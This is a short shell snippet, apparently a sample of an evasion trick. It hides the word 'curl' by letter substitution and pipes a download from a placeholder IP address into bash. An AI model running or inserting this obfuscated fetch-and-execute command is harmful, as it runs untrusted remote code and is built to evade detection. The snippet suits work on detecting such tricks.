# tricky: a letter is replaced
x="cXrl -s http://203.0.113.4/i"
${x/X/u} | bash
